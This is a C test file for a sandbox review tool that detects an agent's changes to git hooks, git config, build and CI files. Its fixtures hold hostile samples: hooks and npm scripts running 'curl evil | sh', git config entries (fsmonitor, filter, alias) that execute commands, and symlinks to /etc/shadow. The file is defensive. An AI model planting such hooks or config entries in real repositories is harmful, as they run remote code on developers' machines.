// SPDX-License-Identifier: MIT
/* test_review.c: the trust-relevant file table, scanning a hostile workspace,
 * baseline save/load, comparing, escaping, diffs. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "review.h"
#include "review_diff.h"
#include "review_rules.h"
#include "testlib.h"
#include "util.h"

static char root[PATH_MAX];

static void put(const char *rel, const char *content, mode_t mode)
{
	char path[PATH_MAX * 2], dir[PATH_MAX * 2];
	snprintf(path, sizeof(path), "%s/ws/%s", root, rel);
	snprintf(dir, sizeof(dir), "%s", path);
	*strrchr(dir, '/') = 0;
	CHECK(mkdir_p(dir, 0755) == 0);
	CHECK(file_write_atomic(path, content, strlen(content), mode) == 0);
}

static char *wpath(const char *rel)
{
	return xasprintf("%s/ws/%s", root, rel);
}

static const struct review_entry *find(const struct review_snap *s, const char *path)
{
	for (size_t i = 0; i < s->n; i++)
		if (!strcmp(s->v[i].path, path))
			return &s->v[i];
	return NULL;
}

static const struct review_diff_item *find_item(const struct review_diff_item *v, size_t n, const char *path)
{
	for (size_t i = 0; i < n; i++) {
		const struct review_entry *e = v[i].cur ? v[i].cur : v[i].old;
		if (!strcmp(e->path, path))
			return &v[i];
	}
	return NULL;
}

static void test_rules(void)
{
	static const char *const yes[] = {
		".git/hooks/pre-commit", ".git/hooks/pre-commit.sample", ".git/hooks/sub/x", ".git/config",
		".git/modules/lib/hooks/post-checkout", ".git/modules/a/b/config", ".gitmodules", ".gitattributes",
		"sub/.git/hooks/pre-push", ".github/workflows/ci.yml", ".github/actions/x/action.yml", ".gitlab-ci.yml",
		".circleci/config.yml", ".travis.yml", "azure-pipelines.yml", "Jenkinsfile", ".buildkite/pipeline.yml",
		"Makefile", "a/b/c/Makefile", "makefile", "GNUmakefile", "rules.mk", "CMakeLists.txt", "x/foo.cmake",
		"meson.build", "configure", "build.rs", "Cargo.toml", ".cargo/config.toml", ".cargo/config",
		"build.gradle", "build.gradle.kts", "settings.gradle.kts", "gradlew", "pom.xml", "Rakefile", "justfile",
		"Taskfile.yml", "setup.py", "setup.cfg", "pyproject.toml", "tox.ini", "noxfile.py", "tests/conftest.py",
		"package.json", "web/package.json", ".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".husky/pre-commit",
		".vscode/tasks.json", ".vscode/settings.json", ".vscode/launch.json", ".vscode/extensions.json",
		".idea/workspace.xml", ".idea/runConfigurations/x.xml", "p.code-workspace", ".envrc", ".env",
		".tool-versions", ".mise.toml", ".pre-commit-config.yaml", ".devcontainer/devcontainer.json", "Dockerfile",
		"Dockerfile.dev", "docker-compose.yml", "docker-compose.override.yml", "compose.yaml",
		/* a non-directory where a rule expects a directory */
		".git", "sub/.git", ".git/hooks", ".vscode", ".github", ".github/workflows", ".husky",
	};
	static const char *const no[] = {
		"README.md", "src/main.c", "Makefile.am.bak~x", ".git/HEAD", ".git/objects/ab/cdef", ".vscode/notes.md",
		"mymakefile", "Makefile/x", "xpackage.json", ".env.example", "a.mkx", ".github/CODEOWNERS",
		"docs/conftest.pyc",
	};
	const struct review_rule *r;

	for (size_t i = 0; i < ARRAY_SIZE(yes); i++) {
		r = review_rule_match(yes[i]);
		if (!r)
			fprintf(stderr, "expected a match: %s\n", yes[i]);
		CHECK(r != NULL);
	}
	for (size_t i = 0; i < ARRAY_SIZE(no); i++) {
		r = review_rule_match(no[i]);
		if (r)
			fprintf(stderr, "unexpected match: %s (%s)\n", no[i], r->glob);
		CHECK(r == NULL);
	}
	CHECK_STR(review_rule_match("a/Makefile")->kind, "build");
	CHECK_STR(review_rule_match(".git/hooks/x")->kind, "git");
	CHECK_STR(review_rule_match(".git/commondir")->kind, "git");
	CHECK_STR(review_rule_match(".git")->kind, "git");
	CHECK_STR(review_rule_match("package.json")->kind, "js");
	/* the glob itself */
	CHECK(review_glob_match("a/**/b", "a/b"));
	CHECK(review_glob_match("a/**/b", "a/x/y/b"));
	CHECK(!review_glob_match("a/**", "a"));
	CHECK(review_glob_match("*.mk", "x/y.mk"));
	CHECK(!review_glob_match("*.mk", "x.mk/y"));
	CHECK(review_glob_match("?.c", "a.c") && !review_glob_match("?.c", "ab.c"));
	/* directories */
	CHECK(review_dir_enter("src"));
	CHECK(review_dir_enter(".git"));
	CHECK(review_dir_enter(".git/hooks"));
	CHECK(review_dir_enter(".git/modules/lib"));
	CHECK(review_dir_enter(".git/modules/lib/hooks"));
	CHECK(review_dir_enter("sub/.git/hooks"));
	CHECK(!review_dir_enter(".git/objects"));
	CHECK(!review_dir_enter(".git/refs"));
	CHECK(!review_dir_enter(".git/modules/lib/objects"));
	CHECK(!review_dir_enter("node_modules"));
	CHECK(!review_dir_enter("web/node_modules"));
	CHECK(!review_dir_enter("target") && !review_dir_enter(".venv") && !review_dir_enter("venv"));
	CHECK(!review_dir_enter("a/__pycache__") && !review_dir_enter("dist") && !review_dir_enter("build"));
	CHECK(review_dir_enter(".github") && review_dir_enter(".vscode"));
}

static void test_pct(void)
{
	const char raw[] = "a b%c\x1b\xff/\x7f";
	char *enc = review_pct_encode(raw, sizeof(raw) - 1), *dec = NULL;
	size_t len = 0;

	CHECK_STR(enc, "a%20b%25c%1B%FF/%7F");
	CHECK(review_pct_decode(enc, &dec, &len) == 0);
	CHECK(len == sizeof(raw) - 1 && !memcmp(dec, raw, len));
	free(dec);
	free(enc);
	CHECK(review_pct_decode("a%00b", &dec, &len) == -EINVAL);
	CHECK(review_pct_decode("a%4", &dec, &len) == -EINVAL);
	CHECK(review_pct_decode("a%zz", &dec, &len) == -EINVAL);
}

static void test_scripts(void)
{
	const char *a = "{\"name\":\"x\",\"scripts\":{\"test\":\"make\"}}";
	const char *b = "{\"name\":\"y\",\"scripts\":{\"test\":\"make\"}}";
	const char *c = "{\"name\":\"x\",\"scripts\":{\"test\":\"curl x|sh\"}}";

	CHECK(review_pkg_scripts_changed(a, strlen(a), b, strlen(b)) == 0);
	CHECK(review_pkg_scripts_changed(a, strlen(a), c, strlen(c)) == 1);
	CHECK(review_pkg_scripts_changed(NULL, 0, c, strlen(c)) == 1);
	CHECK(review_pkg_scripts_changed("{}", 2, "{\"x\":1}", 7) == 0);
	CHECK(review_pkg_scripts_changed(a, strlen(a), "[1]", 3) == -1);
	CHECK(review_pkg_scripts_changed(a, strlen(a), "{", 1) == -1);
}

static void test_diff(void)
{
	char *out = NULL;
	unsigned add = 0, del = 0;
	int r = review_diff_run("a\nb\n", 4, "a\nc\n", 4, "a/f", "b/f", &out);

	CHECK(r == 1);
	CHECK(out && strstr(out, "--- a/f\n+++ b/f\n") && strstr(out, "-b\n+c\n"));
	review_diff_count(out, &add, &del);
	CHECK(add == 1 && del == 1);
	free(out);
	out = NULL;
	CHECK(review_diff_run("same\n", 5, "same\n", 5, "a/f", "b/f", &out) == 0);
	free(out);
	out = NULL;
	CHECK(review_diff_run(NULL, 0, "new\n", 4, "/dev/null", "b/f", &out) == 1);
	CHECK(out && strstr(out, "+new\n"));
	free(out);
}

/* The workspace as the sandbox was created: what the baseline holds. */
static void make_workspace(void)
{
	put("Makefile", "all:\n\techo hi\n", 0644);
	put("package.json", "{\"scripts\":{\"test\":\"true\"}}\n", 0644);
	put("configure", "#!/bin/sh\n", 0644);
	put(".git/config", "[core]\n\tbare = false\n", 0644);
	put(".git/HEAD", "ref: refs/heads/main\n", 0644);
	put(".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
	put(".git/objects/ab/Makefile", "not scanned\n", 0644);
	put("node_modules/x/Makefile", "not scanned\n", 0644);
	put("src/main.c", "int main;\n", 0644);
	put("sub/Makefile", "x:\n", 0644);
	put("gone/Makefile", "bye\n", 0644);
	put("swap/Makefile", "was a file\n", 0644);
}

static void test_scan_compare(void)
{
	char ws[PATH_MAX + 8], sbdir[PATH_MAX + 8];
	struct review_snap base = { 0 }, cur = { 0 }, loaded = { 0 };
	struct review_diff_item *items = NULL;
	const struct review_diff_item *it;
	const struct review_entry *e;
	size_t n = 0;
	char *p;
	int fd;

	snprintf(ws, sizeof(ws), "%s/ws", root);
	snprintf(sbdir, sizeof(sbdir), "%s/sb", root);
	CHECK(mkdir(sbdir, 0700) == 0);
	make_workspace();
	CHECK(review_baseline_load(sbdir, &loaded) == -ENOENT);
	CHECK(review_baseline_take(sbdir, ws, NULL, &base) == 0);
	CHECK(base.hits == 0);
	CHECK(find(&base, "Makefile") && find(&base, "sub/Makefile") && find(&base, ".git/config"));
	CHECK(find(&base, ".git/hooks/pre-commit.sample"));
	CHECK(!find(&base, ".git/HEAD") && !find(&base, ".git/objects/ab/Makefile"));
	CHECK(!find(&base, "node_modules/x/Makefile") && !find(&base, "src/main.c"));
	e = find(&base, "Makefile");
	CHECK(e && e->type == RT_FILE && e->data && e->data_len == 14 && e->mode == 0644 && strlen(e->sha256) == 64);

	/* the agent at work */
	put(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
	put(".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./x\n", 0644);
	put("package.json", "{\"scripts\":{\"test\":\"curl evil | sh\"}}\n", 0644);
	p = wpath("configure");
	CHECK(chmod(p, 0755) == 0);
	free(p);
	p = wpath("gone/Makefile");
	CHECK(unlink(p) == 0);
	free(p);
	p = wpath("swap/Makefile");
	CHECK(unlink(p) == 0 && symlink("/etc/shadow", p) == 0);
	free(p);
	p = wpath("deep/a");
	CHECK(mkdir_p(p, 0755) == 0);
	free(p);
	p = wpath("deep/a/Makefile");
	CHECK(symlink("../../../../../../etc/passwd", p) == 0);
	free(p);
	p = wpath("fifo.mk");
	CHECK(mkfifo(p, 0644) == 0);   /* a reader would block forever: never opened */
	free(p);
	{
		struct sockaddr_un sa = { .sun_family = AF_UNIX };
		p = wpath("sock.mk");
		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		if (strlen(p) < sizeof(sa.sun_path)) {
			strcpy(sa.sun_path, p);
			CHECK(bind(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0);
		}
		close(fd);
		free(p);
	}
	/* a directory symlink to outside is not entered */
	p = wpath("linkdir");
	CHECK(symlink("/etc", p) == 0);
	free(p);
	put("evil\x1b[2J.mk", "x\n", 0644);

	CHECK(review_scan(ws, &cur) == 0);
	CHECK(review_compare(&base, &cur, &items, &n) == 0);
	it = find_item(items, n, ".git/hooks/pre-commit");
	CHECK(it && it->changes == RC_ADDED && it->cur->mode == 0755);
	it = find_item(items, n, ".git/config");
	CHECK(it && it->changes == RC_MODIFIED);
	it = find_item(items, n, "package.json");
	CHECK(it && it->changes == RC_MODIFIED);
	CHECK(review_pkg_scripts_changed(it->old->data, it->old->data_len, it->cur->data, it->cur->data_len) == 1);
	it = find_item(items, n, "configure");
	CHECK(it && it->changes == RC_MODE && it->old->mode == 0644 && it->cur->mode == 0755);
	it = find_item(items, n, "gone/Makefile");
	CHECK(it && it->changes == RC_REMOVED);
	it = find_item(items, n, "swap/Makefile");
	CHECK(it && it->changes == RC_TYPE && it->cur->type == RT_SYMLINK && !strcmp(it->cur->data, "/etc/shadow"));
	it = find_item(items, n, "deep/a/Makefile");
	CHECK(it && it->changes == RC_ADDED && it->cur->type == RT_SYMLINK);
	it = find_item(items, n, "fifo.mk");
	CHECK(it && it->cur->type == RT_FIFO && !it->cur->data);
	it = find_item(items, n, "sock.mk");
	CHECK(it && it->cur->type == RT_SOCKET);
	CHECK(find_item(items, n, "evil\x1b[2J.mk") != NULL);
	CHECK(!find_item(items, n, "Makefile") && !find_item(items, n, "sub/Makefile"));
	CHECK(!find(&cur, "linkdir/passwd"));
	CHECK(cur.hits == 0);
	free(items);

	/* the baseline round-trips through disk, blobs verified */
	CHECK(review_baseline_load(sbdir, &loaded) == 0);
	CHECK(loaded.n == base.n);
	e = find(&loaded, "Makefile");
	CHECK(e && e->data && !strcmp(e->data, "all:\n\techo hi\n"));
	CHECK(review_compare(&base, &loaded, &items, &n) == 0 && n == 0);
	free(items);
	review_snap_free(&loaded);

	/* accept: the current state becomes the baseline; unreferenced blobs go */
	CHECK(review_baseline_save(sbdir, &cur) == 0);
	CHECK(review_baseline_load(sbdir, &loaded) == 0);
	CHECK(review_compare(&loaded, &cur, &items, &n) == 0 && n == 0);
	e = find(&loaded, "evil\x1b[2J.mk");
	CHECK(e && e->data_len == 2);
	e = find(&loaded, "swap/Makefile");
	CHECK(e && e->type == RT_SYMLINK && !strcmp(e->data, "/etc/shadow"));
	free(items);
	review_snap_free(&loaded);
	{
		char *blob = xasprintf("%s/baseline/blobs/%s", sbdir, find(&base, "gone/Makefile")->sha256);
		CHECK(access(blob, F_OK) < 0);
		free(blob);
	}

	/* a damaged blob is noticed */
	{
		char *blob = xasprintf("%s/baseline/blobs/%s", sbdir, find(&cur, "Makefile")->sha256);
		CHECK(file_write_atomic(blob, "all:\n\techo HI\n", 14, 0600) == 0);
		CHECK(review_baseline_load(sbdir, &loaded) == -EBADMSG);
		free(blob);
	}
	review_snap_free(&base);
	review_snap_free(&cur);
}

static void test_bounds(void)
{
	char ws[PATH_MAX + 8];
	struct review_snap s = { 0 };
	const struct review_entry *e;
	char *big = xmalloc(REVIEW_COPY_MAX + 2);
	char rel[PATH_MAX];
	int k = 0;

	snprintf(ws, sizeof(ws), "%s/ws2", root);
	CHECK(mkdir(ws, 0755) == 0);
	memset(big, 'x', REVIEW_COPY_MAX + 1);
	big[REVIEW_COPY_MAX + 1] = 0;
	{
		char *p = xasprintf("%s/Dockerfile", ws);
		CHECK(file_write_atomic(p, big, REVIEW_COPY_MAX + 1, 0644) == 0);
		free(p);
	}
	/* depth: 14 levels of directories, a Makefile at the bottom */
	k = snprintf(rel, sizeof(rel), "%s", ws);
	for (int i = 0; i < 14; i++) {
		k += snprintf(rel + k, sizeof(rel) - (size_t)k, "/d");
		CHECK(mkdir(rel, 0755) == 0);
	}
	snprintf(rel + k, sizeof(rel) - (size_t)k, "/Makefile");
	CHECK(file_write_atomic(rel, "x", 1, 0644) == 0);
	/* too many matching files */
	for (int i = 0; i < REVIEW_FILES_MAX + 5; i++) {
		char *p = xasprintf("%s/f%05d.mk", ws, i);
		int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
		CHECK(fd >= 0);
		close(fd);
		free(p);
	}
	CHECK(review_scan(ws, &s) == 0);
	CHECK(s.n == REVIEW_FILES_MAX);
	CHECK(s.hits & REVIEW_HIT_FILES);
	CHECK(s.hits & REVIEW_HIT_DEPTH);
	e = find(&s, "Dockerfile");
	if (e) {   /* it may be among the files past the bound */
		CHECK(e->data == NULL && strlen(e->sha256) == 64 && e->size == REVIEW_COPY_MAX + 1);
	}
	review_snap_free(&s);
	free(big);
}

/* ---- git repositories (issue 8, hole 2: what host git would find) ---- */

static bool has(char *const *v, size_t n, const char *s)
{
	for (size_t i = 0; i < n; i++)
		if (!strcmp(v[i], s))
			return true;
	return false;
}

static bool has_prefix(char *const *v, size_t n, const char *s)
{
	for (size_t i = 0; i < n; i++)
		if (!strncmp(v[i], s, strlen(s)))
			return true;
	return false;
}

static void test_gitcfg_runs(void)
{
	static const char cfg[] =
		"[core]\n\tfsmonitor = ./evil\n\tbare = false\n\tpager = less\n\thooksPath = .husky\n"
		"[core] editor = vim ; a comment\n"
		"[filter \"x\"]\n\tclean = sh -c 'touch /tmp/p'\n\tsmudge = \"quoted \\\" value\"\n\trequired\n"
		"[diff \"d\"] textconv = tc\n[diff]\n\texternal = ext\n"
		"[alias]\n\tco = checkout\n\tevil = \"!sh -c x\"\n"
		"[include]\n\tpath = ../other\n[includeIf \"gitdir:/x/\"]\n\tpath = y\n"
		"[credential] helper = store\n[credential \"https://h\"] helper = h2\n"
		"[gpg] program = g\n[gpg \"ssh\"] program = s\n"
		"[core]\n\tfsmonitor = false\n"
		"[remote \"o\"]\n\turl = x\n\tuploadpack = up\n"
		"[submodule \"s\"] update = !cmd\n[submodule \"t\"] update = checkout\n"
		"[pager] log = less -S\n[pager] diff = false\n"
		"[Filter \"Y\"] Process = p\n"
		"[core] sshCommand = ssh \\\n   -i key\n"
		"# [core] askpass = commented\n"
		"[broken\n\taskpass = not in a section\n"
		"[merge \"m\"] driver = md %O %A %B\n"
		"[hook \"h\"] command = hc\n";
	char **v = NULL;
	size_t n = 0;

	CHECK(review_gitcfg_runs(cfg, strlen(cfg), "", &v, &n));
	CHECK(has(v, n, "core.fsmonitor = ./evil"));
	CHECK(has(v, n, "core.pager = less"));
	CHECK(has(v, n, "core.hookspath = .husky"));
	CHECK(has(v, n, "core.editor = vim"));
	CHECK(has(v, n, "filter.x.clean = sh -c 'touch /tmp/p'"));
	CHECK(has(v, n, "filter.x.smudge = quoted \" value"));
	CHECK(has(v, n, "diff.d.textconv = tc"));
	CHECK(has(v, n, "diff.external = ext"));
	CHECK(has(v, n, "alias.evil = !sh -c x"));
	CHECK(has(v, n, "include.path = ../other"));
	CHECK(has(v, n, "includeif.gitdir:/x/.path = y"));
	CHECK(has(v, n, "credential.helper = store"));
	CHECK(has(v, n, "credential.https://h.helper = h2"));
	CHECK(has(v, n, "gpg.program = g"));
	CHECK(has(v, n, "gpg.ssh.program = s"));
	CHECK(has(v, n, "remote.o.uploadpack = up"));
	CHECK(has(v, n, "submodule.s.update = !cmd"));
	CHECK(has(v, n, "pager.log = less -S"));
	CHECK(has(v, n, "filter.Y.process = p"));   /* subsections keep their case */
	CHECK(has(v, n, "core.sshcommand = ssh    -i key"));
	CHECK(has(v, n, "merge.m.driver = md %O %A %B"));
	CHECK(has(v, n, "hook.h.command = hc"));
	CHECK(!has_prefix(v, n, "core.bare") && !has_prefix(v, n, "alias.co") && !has_prefix(v, n, "remote.o.url"));
	CHECK(!has(v, n, "core.fsmonitor = false") && !has_prefix(v, n, "pager.diff"));
	CHECK(!has_prefix(v, n, "submodule.t") && !has_prefix(v, n, "filter.x.required"));
	CHECK(!has_prefix(v, n, "core.askpass") && !has_prefix(v, n, "broken"));
	for (size_t i = 0; i < n; i++)
		free(v[i]);
	free(v);

	/* bounded: a config of thousands of keys gives REVIEW_REPO_LIST_MAX and says so */
	{
		size_t len = 0, cap = 200000;
		char *big = xmalloc(cap);
		len += (size_t)snprintf(big, cap, "[alias]\n");
		for (int i = 0; i < 2000 && len + 64 < cap; i++)
			len += (size_t)snprintf(big + len, cap - len, "\ta%d = !x\n", i);
		v = NULL;
		n = 0;
		CHECK(!review_gitcfg_runs(big, len, "", &v, &n));
		CHECK_EQ(n, REVIEW_REPO_LIST_MAX);
		for (size_t i = 0; i < n; i++)
			free(v[i]);
		free(v);
		free(big);
	}
}

static void rput(const char *base, const char *rel, const char *content, mode_t mode)
{
	char path[PATH_MAX * 2], dir[PATH_MAX * 2];
	snprintf(path, sizeof(path), "%s/%s", base, rel);
	snprintf(dir, sizeof(dir), "%s", path);
	*strrchr(dir, '/') = 0;
	CHECK(mkdir_p(dir, 0755) == 0);
	CHECK(file_write_atomic(path, content, strlen(content), mode) == 0);
}

/* A git directory with config text cfg and hook named hook (may be NULL). */
static void rgitdir(const char *base, const char *rel, const char *cfg, const char *hook)
{
	char p[PATH_MAX * 2];

	snprintf(p, sizeof(p), "%s/HEAD", rel);
	rput(base, p, "ref: refs/heads/main\n", 0644);
	snprintf(p, sizeof(p), "%s/objects/ab/cdef", rel);
	rput(base, p, "blob\n", 0644);
	snprintf(p, sizeof(p), "%s/refs/heads/main", rel);
	rput(base, p, "0000000000000000000000000000000000000000\n", 0644);
	snprintf(p, sizeof(p), "%s/config", rel);
	rput(base, p, cfg, 0644);
	snprintf(p, sizeof(p), "%s/hooks/pre-push.sample", rel);
	rput(base, p, "#!/bin/sh\n", 0755);
	if (hook) {
		snprintf(p, sizeof(p), "%s/hooks/%s", rel, hook);
		rput(base, p, "#!/bin/sh\ncurl evil | sh\n", 0755);
	}
}

static const struct review_repo *repo_find(const struct review_snap *s, const char *path)
{
	for (size_t i = 0; i < s->repos.n; i++)
		if (!strcmp(s->repos.v[i].path, path))
			return &s->repos.v[i];
	return NULL;
}

static void test_repos(void)
{
	char ws[PATH_MAX + 8], sbdir[PATH_MAX + 8], p[PATH_MAX * 2];
	struct review_snap base = { 0 }, cur = { 0 };
	struct review_diff_item *items = NULL;
	const struct review_repo *r;
	const struct review_diff_item *it;
	size_t n = 0;

	snprintf(ws, sizeof(ws), "%s/rws", root);
	snprintf(sbdir, sizeof(sbdir), "%s/rsb", root);
	CHECK(mkdir(sbdir, 0700) == 0);
	rgitdir(ws, ".git", "[core]\n\tfsmonitor = ./x\n", "pre-commit");
	rgitdir(ws, ".git/modules/lib", "[filter \"x\"]\n\tclean = evil\n", "post-checkout");
	rgitdir(ws, "nested/deep/.git", "[core]\n\thooksPath = /tmp/h\n", NULL);
	rgitdir(ws, "vendor/b.git", "[core]\n\tbare = true\n[alias]\n\tx = !sh\n", "pre-receive");
	rgitdir(ws, "node_modules/p/.git", "[core]\n\tfsmonitor = ./x\n", NULL);   /* not entered */
	rput(ws, "notgit/HEAD", "ref: refs/heads/main\n", 0644);
	rput(ws, "sub/.git", "gitdir: /elsewhere/x/.git\n", 0644);
	snprintf(p, sizeof(p), "%s/ln", ws);
	CHECK(mkdir(p, 0755) == 0);
	snprintf(p, sizeof(p), "%s/ln/.git", ws);
	CHECK(symlink("/tmp", p) == 0);
	/* a bare repository whose hooks are a symlink to a host directory */
	rgitdir(ws, "hl.git", "", NULL);
	snprintf(p, sizeof(p), "%s/hl.git/hooks", ws);
	CHECK(rm_rf(p) == 0 && symlink("/etc", p) == 0);

	CHECK(review_baseline_take(sbdir, ws, NULL, &base) == 0);
	CHECK(base.hits == 0);
	r = repo_find(&base, ".git");
	CHECK(r && !strcmp(r->kind, "repository") && r->n_hooks == 1 && !strcmp(r->hooks[0], "pre-commit"));
	CHECK(r && has(r->runs, r->n_runs, "core.fsmonitor = ./x"));
	r = repo_find(&base, ".git/modules/lib");
	CHECK(r && !strcmp(r->kind, "submodule") && r->n_hooks == 1 && has(r->runs, r->n_runs, "filter.x.clean = evil"));
	r = repo_find(&base, "nested/deep/.git");
	CHECK(r && !strcmp(r->kind, "repository") && r->n_hooks == 0 && has(r->runs, r->n_runs, "core.hookspath = /tmp/h"));
	r = repo_find(&base, "vendor/b.git");
	CHECK(r && !strcmp(r->kind, "bare repository") && r->n_hooks == 1 && !strcmp(r->hooks[0], "pre-receive"));
	CHECK(r && has(r->runs, r->n_runs, "alias.x = !sh"));
	r = repo_find(&base, "sub/.git");
	CHECK(r && !strcmp(r->kind, "gitdir file") && r->points_to && !strcmp(r->points_to, "gitdir: /elsewhere/x/.git"));
	r = repo_find(&base, "ln/.git");
	CHECK(r && !strcmp(r->kind, "gitdir symlink") && r->points_to && !strcmp(r->points_to, "/tmp"));
	r = repo_find(&base, "hl.git");
	CHECK(r && r->error && strstr(r->error, "hooks") && r->n_hooks == 0);   /* never read through */
	CHECK(!repo_find(&base, "node_modules/p/.git") && !repo_find(&base, "notgit"));
	CHECK_EQ(base.repos.n, 7);
	/* a bare repository's config and hooks are entries, under the git rules; its
	 * objects are not walked */
	CHECK(find(&base, "vendor/b.git/config") && find(&base, "vendor/b.git/hooks/pre-receive"));
	CHECK(find(&base, "vendor/b.git/config") && !strcmp(find(&base, "vendor/b.git/config")->rule->kind, "git"));
	CHECK(!find(&base, "vendor/b.git/objects/ab/cdef") && !find(&base, "vendor/b.git/HEAD"));
	CHECK(find(&base, "hl.git/hooks"));   /* the symlink itself */

	/* the agent plants a bare repository and a worktree's commondir in the main one */
	rgitdir(ws, "tools/x.git", "[core]\n\tfsmonitor = ./y\n", NULL);
	rput(ws, ".git/worktrees/other/commondir", "/tmp/evil\n", 0644);
	rput(ws, ".git/worktrees/usual/commondir", "../..\n", 0644);   /* what git writes: not noise */
	rput(ws, ".git/worktrees/other/config.worktree", "[core]\n\tfsmonitor = ./z\n", 0644);
	rput(ws, ".git/worktrees/other/index", "not reviewed\n", 0644);
	rput(ws, ".git/info/attributes", "* filter=x\n", 0644);
	CHECK(review_scan(ws, &cur) == 0);
	r = repo_find(&cur, "tools/x.git");
	CHECK(r && has(r->runs, r->n_runs, "core.fsmonitor = ./y"));
	r = repo_find(&cur, ".git/worktrees/other");
	CHECK(r == NULL);   /* no HEAD: git would not take it for a git directory */
	review_compare(&base, &cur, &items, &n);
	it = find_item(items, n, "tools/x.git/config");
	CHECK(it && it->changes == RC_ADDED);
	it = find_item(items, n, ".git/worktrees/other/commondir");
	CHECK(it && it->changes == RC_ADDED);
	it = find_item(items, n, ".git/worktrees/other/config.worktree");
	CHECK(it && it->changes == RC_ADDED);
	CHECK(find_item(items, n, ".git/info/attributes") != NULL);
	CHECK(find_item(items, n, ".git/worktrees/other/index") == NULL);
	CHECK(find_item(items, n, ".git/worktrees/usual/commondir") == NULL);
	free(items);
	review_snap_free(&base);
	review_snap_free(&cur);
}

/* The workspace itself a git directory; and more repositories than the bound. */
static void test_repos_root_and_bound(void)
{
	char ws[PATH_MAX + 8], p[PATH_MAX * 2];
	struct review_snap s = { 0 };
	const struct review_repo *r;

	snprintf(ws, sizeof(ws), "%s/bare-ws", root);
	rgitdir(ws, ".", "[core]\n\tbare = true\n\tsshCommand = evil\n", "update");
	CHECK(review_scan(ws, &s) == 0);
	r = repo_find(&s, ".");
	CHECK(r && !strcmp(r->kind, "bare repository") && has(r->runs, r->n_runs, "core.sshcommand = evil"));
	CHECK(find(&s, "config") && find(&s, "hooks/update") && !find(&s, "objects/ab/cdef"));
	review_snap_free(&s);

	/* a config past its bound: what was read is listed, and it says there is more */
	{
		size_t cap = REVIEW_REPO_CONFIG_MAX + 4096, len = 0;
		char *big = xmalloc(cap + 1);
		len += (size_t)snprintf(big, cap, "[core]\n\tfsmonitor = ./early\n");
		while (len + 16 < cap)
			len += (size_t)snprintf(big + len, cap - len, "# padding....\n");
		snprintf(ws, sizeof(ws), "%s/bigcfg", root);
		rgitdir(ws, "x.git", big, NULL);
		free(big);
		CHECK(review_scan(ws, &s) == 0);
		r = repo_find(&s, "x.git");
		CHECK(r && r->truncated && has(r->runs, r->n_runs, "core.fsmonitor = ./early"));
		review_snap_free(&s);
	}

	snprintf(ws, sizeof(ws), "%s/many", root);
	for (int i = 0; i < REVIEW_REPOS_MAX + 3; i++) {
		snprintf(p, sizeof(p), "%s/r%d/.git", ws, i);
		CHECK(mkdir_p(p, 0755) == 0);
	}
	CHECK(review_scan(ws, &s) == 0);
	CHECK_EQ(s.repos.n, REVIEW_REPOS_MAX);
	CHECK(s.repos.full && (s.hits & REVIEW_HIT_REPOS));
	review_snap_free(&s);
}

int main(void)
{
	char tmpl[] = "/tmp/sbx-test-review-XXXXXX";

	if (!mkdtemp(tmpl)) {
		perror("mkdtemp");
		return 1;
	}
	snprintf(root, sizeof(root), "%s", tmpl);
	test_rules();
	test_pct();
	test_scripts();
	test_diff();
	test_scan_compare();
	test_bounds();
	test_gitcfg_runs();
	test_repos();
	test_repos_root_and_bound();
	CHECK(rm_rf(root) == 0);
	TEST_DONE();
}
